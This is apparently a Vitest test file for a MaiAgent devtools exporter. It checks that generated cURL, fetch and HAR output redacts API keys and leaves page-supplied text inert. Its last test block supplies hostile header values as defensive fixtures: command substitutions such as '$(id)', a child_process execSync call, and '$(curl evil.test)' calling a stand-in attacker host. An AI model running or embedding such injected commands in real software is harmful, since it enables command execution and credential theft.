import { describe, expect, it } from 'vitest';
import { toCurl, toFetch, toHar, redactAuthorization } from '../../src/core/export';
import type { Exchange } from '../../src/core/exchange';
import type { HarEntry } from '../../src/core/har';

const KEY = 'Xk2v9Qab.s3cr3tPartOfTheKey0123456789';
const ex: Exchange = {
  method: 'POST',
  url: "https://api.maiagent.ai/api/v1/chatbots/?q=it's",
  status: 400,
  requestHeaders: [
    { name: 'Authorization', value: `Api-Key ${KEY}` },
    { name: 'Content-Type', value: 'application/json' },
    { name: 'User-Agent', value: 'Mozilla/5.0' },
    { name: 'Origin', value: 'https://docs.maiagent.ai' },
  ],
  responseHeaders: [],
  requestBody: JSON.stringify({ name: "O'Brien" }),
};

describe('toCurl', () => {
  it('uses the $MAIAGENT_API_KEY placeholder, expandable by the shell, and never the key', () => {
    const c = toCurl(ex);
    expect(c).not.toContain(KEY);
    expect(c).toContain(`-H 'Authorization: Api-Key '"$MAIAGENT_API_KEY"`);
    expect(c).toContain(`-X POST`);
    // The URL is written as a browser reads it: the quote in the query is percent-encoded.
    expect(c).toContain(`'https://api.maiagent.ai/api/v1/chatbots/?q=it%27s'`);
    expect(c).toContain(`--data-raw '{"name":"O'\\''Brien"}'`);
    expect(c).not.toContain('User-Agent');
    expect(c).not.toContain('Origin');
  });
  it('includes the key only when it is passed explicitly', () => {
    expect(toCurl(ex, { key: KEY })).toContain(`'Authorization: Api-Key ${KEY}'`);
  });
  it('adds the header with the placeholder when the request had none', () => {
    const c = toCurl({ ...ex, method: 'GET', requestHeaders: [], requestBody: undefined });
    expect(c).toBe(`curl 'https://api.maiagent.ai/api/v1/chatbots/?q=it%27s' \\\n  -H 'Authorization: Api-Key '"$MAIAGENT_API_KEY"`);
  });
});

describe('toFetch', () => {
  it('reads the key from the environment, never inlines it', () => {
    const f = toFetch(ex);
    expect(f).not.toContain(KEY);
    expect(f).toContain('"Authorization": "Api-Key " + process.env.MAIAGENT_API_KEY,');
    expect(f).toContain('method: "POST"');
    expect(f).toContain(`body: ${JSON.stringify(ex.requestBody)}`);
  });
  it('inlines the key only when asked', () => {
    expect(toFetch(ex, { key: KEY })).toContain(`"Authorization": "Api-Key ${KEY}",`);
  });
});

describe('toHar', () => {
  it('replaces every Authorization credential and keeps the rest', () => {
    const entry: HarEntry = {
      startedDateTime: '2026-11-26T05:00:00.000Z',
      time: 12,
      request: {
        method: 'GET',
        url: 'https://api.maiagent.ai/api/users/current/',
        headers: [
          { name: 'authorization', value: `Bearer  ${KEY}` },
          { name: 'Accept', value: '*/*' },
        ],
      },
      response: {
        status: 401,
        headers: [{ name: 'Content-Type', value: 'application/json' }],
        content: { mimeType: 'application/json', text: '{"detail":"x"}' },
      },
    };
    const har = toHar([entry], { name: 'MaiAgent DevTools', version: '0.1.0' });
    expect(har).not.toContain(KEY);
    const parsed = JSON.parse(har);
    expect(parsed.log.version).toBe('1.2');
    expect(parsed.log.entries[0].request.headers).toEqual([
      { name: 'authorization', value: 'Bearer $MAIAGENT_API_KEY' },
      { name: 'Accept', value: '*/*' },
    ]);
    expect(parsed.log.entries[0].response.content.text).toBe('{"detail":"x"}');
  });
  it('redactAuthorization keeps a known scheme and replaces everything else', () => {
    expect(redactAuthorization(`Api-Key ${KEY}`)).toBe('Api-Key $MAIAGENT_API_KEY');
    expect(redactAuthorization(KEY)).toBe('Api-Key $MAIAGENT_API_KEY');
    expect(redactAuthorization(`Api-Key Api-Key ${KEY}`)).toBe('Api-Key $MAIAGENT_API_KEY');
  });
});

describe('page-controlled text stays inert', () => {
  const hostile: Exchange = {
    method: 'GET',
    url: 'https://api.maiagent.ai/?k=$MAIAGENT_API_KEY',
    status: 200,
    requestHeaders: [
      { name: 'X-Note', value: "$MAIAGENT_API_KEY ${require('child_process').execSync('id')} `id` $(id)" },
      { name: 'Authorization', value: "Bearer $(curl evil.test) '$MAIAGENT_API_KEY'" },
    ],
    responseHeaders: [],
    requestBody: '$MAIAGENT_API_KEY',
  };
  it('cURL expands the placeholder only in its own Authorization line', () => {
    const c = toCurl(hostile);
    const unquoted = c.split('\n').map((l) => l.replace(/'(?:[^']|'\\'')*'/g, "''"));
    // Outside single quotes there is exactly one placeholder, in the Authorization line.
    expect(unquoted.filter((l) => l.includes('$')).length).toBe(1);
    expect(unquoted.find((l) => l.includes('$'))).toContain(`-H ''"$MAIAGENT_API_KEY"`);
    expect(c).toContain(`-H 'Authorization: Bearer '"$MAIAGENT_API_KEY"`);
    expect(c).not.toContain('curl evil.test');
  });
  it('fetch runs as written: page text stays literal, only the key comes from the environment', async () => {
    const f = toFetch(hostile);
    let seen: { url: string; init: { headers: Record<string, string>; body?: string } } | null = null;
    const fakeFetch = async (url: string, init: { headers: Record<string, string> }) => {
      seen = { url, init };
    };
    await new Function('fetch', 'process', `return (async () => { ${f} })()`)(fakeFetch, { env: { MAIAGENT_API_KEY: 'K' } });
    expect(seen!.url).toBe('https://api.maiagent.ai/?k=$MAIAGENT_API_KEY');
    expect(seen!.init.headers['X-Note']).toBe("$MAIAGENT_API_KEY ${require('child_process').execSync('id')} `id` $(id)");
    expect(seen!.init.headers.Authorization).toBe('Bearer K');
    expect(seen!.init.body).toBe('$MAIAGENT_API_KEY');
  });
});
